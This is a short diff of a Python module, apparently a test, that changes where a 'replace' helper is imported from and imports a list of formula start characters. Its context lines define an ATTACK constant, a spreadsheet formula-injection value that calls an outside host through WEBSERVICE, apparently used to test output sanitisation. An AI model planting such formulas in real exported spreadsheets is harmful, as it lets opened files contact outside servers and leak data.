@@ -8,7 +8,6 @@ import os
 import re
 import shutil
 import subprocess
-from dataclasses import replace
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -23,6 +22,7 @@ from model.output.documents import ReportPicture, report_bytes, tables_bytes
 from model.output.fields import grid
 from model.project import Project
 from model.text.formats import Formats
+from model.text.records import replace
 from model.text.safe_text import FORMULA_STARTS
 
 ATTACK = '=WEBSERVICE("http://example.org/";1)'
